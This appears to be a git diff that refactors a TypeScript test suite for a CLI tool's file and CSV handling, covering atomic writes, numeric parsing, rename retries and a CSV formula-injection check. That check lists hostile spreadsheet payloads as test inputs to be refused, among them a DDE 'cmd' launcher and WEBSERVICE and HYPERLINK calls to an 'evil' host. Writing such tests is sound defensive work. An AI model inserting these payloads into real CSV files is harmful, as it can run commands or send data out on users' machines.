@@ -18,7 +18,6 @@ import { join } from 'node:path';
 import { setTimeout as pause } from 'node:timers/promises';
 import { csvFieldToRead } from '../../base/index.js';
 import { csvField } from '../../data/events/write-events-text.js';
-import { openEvents } from '../../data/index.js';
 import {
   CacheFile,
   cacheFolder,
@@ -26,8 +25,19 @@ import {
   writeFileAtomically,
   writeFolderAtomically,
 } from '../../files/index.js';
+import { readEvents } from '../data/support/event-tables.js';
 import { writeNpz } from '../support/npz-file.js';
-import { assert, fixtures, longTest, packageRoot, refusal, runCli, temporaryFolder, test } from '../support/test.js';
+import {
+  assert,
+  fixtures,
+  longTest,
+  packageRoot,
+  refusal,
+  rejection,
+  runCli,
+  temporaryFolder,
+  test,
+} from '../support/test.js';
 
 const MAIN = join(packageRoot, 'dist', 'cli', 'main.js');
 const IMAGES = join(packageRoot, 'samples', 'fashion-mnist', 'production.npz');
@@ -35,11 +45,8 @@ const text = (words: string) => (file: { write(bytes: Uint8Array): Promise<void>
 
 test('an output that is replaced keeps its mode, and a link stays a link', async () => {
   const folder = temporaryFolder();
-  const [secret, link, dangling] = ['secret', 'link', 'dangling'].map((name) => join(folder, name)) as [
-    string,
-    string,
-    string,
-  ];
+  const path = (name: string) => join(folder, name);
+  const [secret, link, dangling] = [path('secret'), path('link'), path('dangling')];
   writeFileSync(secret, 'old');
   chmodSync(secret, 0o600);
   await writeFileAtomically(secret, text('new'));
@@ -135,28 +142,15 @@ test('a shard that is given twice is refused, also among others', () => {
 test('numbers of csv are decimal and finite', async () => {
   const folder = temporaryFolder();
   const path = join(folder, 'e.csv');
-  for (const [value, code] of [
-    ['0x1F', 'EVENTS_NOT_NUMERIC'],
-    ['0b1', 'EVENTS_NOT_NUMERIC'],
-    ['1e999', 'EVENTS_NOT_NUMERIC'],
-    ['Infinity', 'EVENTS_NOT_NUMERIC'],
-  ] as const) {
+  for (const value of ['0x1F', '0b1', '1e999', 'Infinity']) {
     writeFileSync(path, `embeddings,a\n"[1, 2]",0.5\n"[1, 2]",${value}\n`);
-    await refusal(code, async () => {
-      const events = await openEvents(path, { scores: ['a'] });
-      try {
-        for await (const { scores } of events.batches()) assert.ok(scores);
-      } finally {
-        await events.close();
-      }
-    });
+    await refusal('EVENTS_NOT_NUMERIC', () => readEvents(path, { scores: ['a'] }));
     writeFileSync(path, `embeddings\n"[1, ${value}]"\n`);
-    await refusal('EVENTS_NOT_NUMERIC', () => openEvents(path));
+    await refusal('EVENTS_NOT_NUMERIC', () => readEvents(path));
   }
   writeFileSync(path, 'embeddings,a\n"[1, -2.5e-3]",+.5\n"[.5, 1e3]",nan\n"[1, 2]",\n');
-  const events = await openEvents(path, { scores: ['a'] });
-  for await (const { scores } of events.batches()) assert.equal([...scores!], [0.5, Number.NaN, Number.NaN]);
-  await events.close();
+  const { events } = await readEvents(path, { scores: ['a'] });
+  assert.equal([...events.scores], [0.5, Number.NaN, Number.NaN]);
 });
 
 test('csv without formulas: refused, not changed', () => {
@@ -174,23 +168,8 @@ test('of what begins with a sign, only whole numbers are no formula', async () =
   for (const text of harmless) assert.ok([text, '""', ''].includes(csvFieldToRead(text)), String(text));
   const formulas = [
     ...["-2+3+cmd|' /C calc'!A0", '+1*WEBSERVICE("http://evil")', '-1+HYPERLINK("http://evil","x")', '-1-2', '+4 9'],
-    ...[
-      '-2\n+3',
-      '-1e',
-      '--1',
-      '-.',
-      '+1,5',
-      '-0x10',
-      '=1',
-      '@SUM(1)',
-      '\t=1',
-      '\r=1',
-      '\n=1',
-      '＝1',
-      '＋cmd',
-      '－1',
-      '＠x',
-    ],
+    ...['-2\n+3', '-1e', '--1', '-.', '+1,5', '-0x10', '=1', '@SUM(1)', '\t=1', '\r=1', '\n=1'],
+    ...['＝1', '＋cmd', '－1', '＠x'],
   ];
   for (const text of formulas) {
     await refusal('EVENTS_CSV_FORMULA', () => csvField(text));
@@ -203,9 +182,7 @@ test('20,000 columns of one row cost seconds of one core, not minutes', async ()
   const path = join(temporaryFolder(), 'wide.csv');
   writeFileSync(path, `embeddings,${names.join(',')}\n"[1, 2]",${names.map(() => '0.5').join(',')}\n`);
   const before = process.cpuUsage();
-  const events = await openEvents(path, { scores: ['c*'] });
-  for await (const { scores } of events.batches()) assert.is(scores?.length, 20_000);
-  await events.close();
+  assert.is((await readEvents(path, { scores: ['c*'] })).events.scores.length, 20_000);
   const { user, system } = process.cpuUsage(before);
   assert.ok(user + system < 4e6, `${user + system} µs`);
 });
@@ -246,10 +223,5 @@ test('a rename that somebody blocks is tried again', async () => {
   await renamePatiently('a', 'b', { isHeld: true, move });
   assert.is(tries, 3);
   tries = 0;
-  try {
-    await renamePatiently('a', 'b', { isHeld: false, move });
-    assert.unreachable();
-  } catch (error) {
-    assert.is((error as Error).message, 'held');
-  }
+  assert.is((await rejection(() => renamePatiently('a', 'b', { isHeld: false, move }))).message, 'held');
 });
